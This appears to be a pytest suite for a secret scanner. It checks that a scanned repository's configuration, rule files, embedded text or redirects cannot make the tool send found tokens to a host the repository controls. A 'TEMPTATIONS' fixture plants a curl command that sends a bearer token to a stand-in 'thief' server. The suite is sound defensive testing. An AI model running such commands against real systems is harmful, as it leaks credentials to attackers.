"""A scanned repository can't choose where tokens go: not by its configuration, its rules, its text or its redirects."""

from __future__ import annotations

import random

import pytest
import rule_files
from e2e import plant

from scanner.ruleset.sample import mint
from tests.emulators import State

KEY, SERVICE = "hypersave-live-key", "hyperspeed-service-account-token"


@pytest.fixture
def thief(fleet):
    """A server that would take any token, and says yes to all."""
    running = fleet.bystander("thief")
    yield running
    assert fleet.log.requests("thief") == []


@pytest.mark.parametrize("name", [".straykey.toml", "pyproject.toml"])
def test_endpoints_in_a_repositorys_configuration_are_refused_aloud(straykey, folder, fleet, thief, name):
    plant(folder, fleet.register.add(KEY))
    table = "tool.straykey.endpoints" if name == "pyproject.toml" else "endpoints"
    (folder / name).write_text(f'[{table}]\nhypersave = "{thief.url}"\n')
    scan = straykey.run("scan", ".", "--verify", cwd=folder)
    assert (scan.code, scan.out) == (2, "")
    assert name in scan.err
    assert "endpoints" in scan.err
    assert fleet.log.connections == 0


def test_the_configuration_of_a_scan_target_is_not_even_read(straykey, folder, fleet, thief):
    path = plant(folder, fleet.register.add(KEY))
    (folder / ".straykey.toml").write_text(f'[endpoints]\nhypersave = "{thief.url}"\n')
    scan = straykey.run("scan", folder, "--verify", *fleet.options(), "--format", "json")
    assert scan.liveness(path)[0] == "active"


def test_endpoints_in_the_users_own_configuration_are_heeded(straykey, folder, fleet):
    path = plant(folder, fleet.register.add(KEY))
    own = folder.parent / "config" / "straykey"
    own.mkdir(parents=True)
    (own / "config.toml").write_text(f'[endpoints]\nhypersave = "{fleet["hypersave"].url}"\n')
    scan = straykey.run("scan", folder, "--verify", "--format", "json", XDG_CONFIG_HOME=str(own.parent))
    assert scan.liveness(path)[0] == "active"


def acme(folder, fleet, endpoint="https://api.acme.dev", **token):
    """Write a rule file that has its tokens sent to an endpoint, and a file with such a token."""
    context = {"hosts": [endpoint.removeprefix("https://").partition(":")[0]]}
    more = rule_files.verification(context, endpoint=endpoint)
    rules = rule_files.write(folder, token={**rule_files.NAMED, **token}, more=more)
    secret = mint("acme_{hex*32}", random.Random())
    return rules, plant(folder, fleet.register.add("acme-key", secret=secret), "acme.env", "ACME_KEY={}\n")


def test_rules_that_a_repository_brings_find_tokens_but_have_none_sent(straykey, folder, fleet, thief):
    rules, path = acme(folder, fleet, f"https://127.0.0.1:{thief.port}")
    (folder / ".straykey.toml").write_text(f'rules = ["{rules.name}"]\n')
    scan = straykey.run("scan", ".", "--verify", "--format", "json", cwd=folder)
    assert scan.liveness(path) == ("not-checked", "not asked: no harmless request to Acme is known for it")
    assert fleet.log.connections == 0


def test_rules_of_a_repository_give_no_endpoint_to_name_either(straykey, folder, fleet, thief):
    rules, _ = acme(folder, fleet)
    (folder / ".straykey.toml").write_text(f'rules = ["{rules.name}"]\n')
    scan = straykey.run("scan", ".", "--verify", "--endpoint", f"acme={thief.url}", cwd=folder)
    assert scan.code == 2
    assert "--endpoint acme" in scan.err


def test_rules_of_a_repository_cannot_take_over_a_built_in_provider(straykey, folder, fleet, thief):
    plant(folder, fleet.register.add(KEY))
    rules, _ = acme(folder, fleet, f"https://127.0.0.1:{thief.port}")
    text = rules.read_text().replace('provider = "acme"', 'provider = "hypersave"').replace("acme-key", "hypersave-key")
    rules.write_text(text)
    (folder / ".straykey.toml").write_text(f'rules = ["{rules.name}"]\n')
    scan = straykey.run("scan", ".", "--verify", *fleet.options(), cwd=folder)
    assert (scan.code, scan.out) == (2, "")
    assert '"hypersave" has its rules in the built-in rules' in scan.err
    assert fleet.log.connections == 0


def test_rules_that_the_user_names_send_to_no_private_address_unless_the_user_names_that_too(straykey, folder, fleet):
    taker = fleet.bystander("acme")
    rules, path = acme(folder, fleet, f"https://127.0.0.1:{taker.port}")
    args = ("scan", folder, "--isolated", "--verify", "--rules", rules, "--format", "json")
    refused = straykey.run(*args)
    assert refused.liveness(path)[0] == "not-checked"
    assert "no public address" in refused.liveness(path)[1]
    assert fleet.log.connections == 0
    asked = straykey.run(*args, "--endpoint", f"acme={taker.url}")
    assert asked.liveness(path)[0] == "active"
    assert len(fleet.log.requests("acme")) == 1


TEMPTATIONS = """\
HYPERSPEED_URL={thief}
HYPERSPEED_TOKEN={{}}
# --endpoint hyperspeed={thief}
# straykey: endpoint={thief} verify=true
curl {thief}/api/v1/organizations -H "Authorization: Bearer {{}}"
"""


def test_hosts_in_the_text_are_never_asked_and_are_offered_where_nobody_else_is_named(straykey, folder, fleet, thief):
    path = plant(folder, fleet.register.add(SERVICE), "chat.env", TEMPTATIONS.format(thief=thief.url))
    scan = straykey.run("scan", folder, "--isolated", "--verify", "--format", "json")
    liveness, reason = scan.liveness(path)
    assert liveness == "not-checked"
    assert reason.startswith("self-hosted: name its address with --endpoint hyperspeed=")
    assert f"127.0.0.1:{thief.port}" in reason
    assert fleet.log.connections == 0


@pytest.mark.parametrize(
    ("text", "liveness", "reason"),
    [
        ("HYPERSPEED_TOKEN={}\n", "inactive", "answered 401"),
        ("HYPERSPEED_URL=<own>\nHYPERSPEED_TOKEN={}\n", "inactive", "answered 401"),
        ("HYPERSPEED_URL=https://chat.corp.io\nHYPERSPEED_TOKEN={}\n", "unknown", "chat.corp.io: another instance?"),
    ],
    ids=["no host", "the host that is asked", "another host"],
)
def test_a_refusal_by_one_instance_proves_nothing_about_another(straykey, folder, fleet, text, liveness, reason):
    entry = fleet.register.add(SERVICE, state=State.REVOKED)
    path = plant(folder, entry, "chat.env", text.replace("<own>", fleet["hyperspeed"].url))
    told = straykey.verify(folder, fleet).liveness(path)
    assert told[0] == liveness
    assert reason in told[1]


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"method": "POST"}, "POST"),
        ({"path": "/v1/keys/{secret}"}, "a token never travels in a URL"),
        ({"path": "/v1/keys?key={secret}"}, "a token never travels in a URL"),
        ({"endpoint": "https://{host}"}, "foreign host template"),
        ({"endpoint": "https://elsewhere.dev"}, "elsewhere.dev"),
        ({"endpoint": "http://api.acme.dev"}, "must begin with https://"),
        ({"headers": {"Authorization": "Bearer"}}, "must stand once"),
        ({"follow": True}, "follow"),
        ({"outcomes": [rule_files.ACTIVE, {"status": 302, "liveness": "active"}]}, "never followed"),
        ({"outcomes": [rule_files.ACTIVE, rule_files.ACTIVE]}, "can't be reached"),
    ],
)
def test_a_rule_file_that_could_do_harm_is_refused_by_file_and_key(straykey, folder, fleet, change, words):
    rules = rule_files.write(folder, token=rule_files.NAMED, more=rule_files.verification(**change))
    plant(folder, fleet.register.add(KEY))
    scan = straykey.run("scan", folder, "--isolated", "--verify", "--rules", rules, *fleet.options())
    assert (scan.code, scan.out) == (2, "")
    assert "acme.toml" in scan.err
    assert words in scan.err
    assert fleet.log.connections == 0
